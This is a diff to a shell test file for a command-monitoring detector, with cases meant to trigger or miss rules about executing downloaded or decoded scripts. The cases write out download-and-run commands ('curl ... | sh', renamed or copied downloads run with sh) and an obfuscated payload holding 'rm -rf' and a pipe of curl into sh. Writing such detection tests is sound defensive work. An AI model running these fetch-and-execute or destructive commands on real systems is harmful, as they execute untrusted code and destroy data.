@@ -29,6 +29,9 @@ miss R4.4 "a download piped to a shell that has its program" "curl -s $url | sh 
 miss R4.4 "a file piped to a shell" "echo 'echo x' >f; cat f | sh"
 hit R3.6 "a downloaded program is executed" "curl -so dl $url; chmod +x dl; ./dl"
 hit R3.6 "a download by redirection is run as a script" "curl -s $url >dl; sh dl"
+hit R3.6 "a download that was copied" "curl -so dl $url; cp dl dl2; cat dl2 >dl3; tar cf dl.tar dl3; mkdir -p d; tar xf dl.tar -C d; sh d/dl3"
+hit R3.6 "a download that was renamed, on standard input" "curl -so dl $url; mv dl dl4; sh <dl4"
+miss R3.6 "a download that was only looked at" "curl -so dl $url; wc dl >n; echo true >own; sh own"
 hit R3.6 "a download through a filter" "curl -s $url | sed s/served/x/ >dl; sh dl"
 hit R3.6 "a download by a program of the run's own" \
 	"python3 -c 'import urllib.request as u; u.urlretrieve(\"$url\", \"dl\")'; sh dl"
@@ -41,7 +44,9 @@ miss R2.3 "an encoder's output reaches a shell" "echo true | base64 >/dev/null; 
 echo "$script" >encoded
 printf '#!/bin/sh\nbase64 -d <encoded >art.sh\nchmod 755 art.sh\n./art.sh\n' >decode.sh
 printf '#!/bin/sh\ncat encoded >art.sh\nbase64 -d <encoded >/dev/null\nsh art.sh 2>/dev/null\n' >copy.sh
-hit R2.4 "what was decoded in a script is executed" "sh decode.sh"
+bash_run "sh decode.sh"
+see "R2.4: what was decoded in a script is made executable, and executed" \
+	'len({get(e, "invigil.subject") for e in alerts("R2.4")}) == 1 and len(alerts("R2.4")) == 2'
 miss R2.4 "what was only copied is executed" "sh copy.sh"
 
 bash_run "printf x >2e2e2f6574632f706173; /bin/true $(printf '#!/bin/sh\nrm -rf x\ncurl http://h/i | sh\n' | gzip -n | base64 -w 0)"
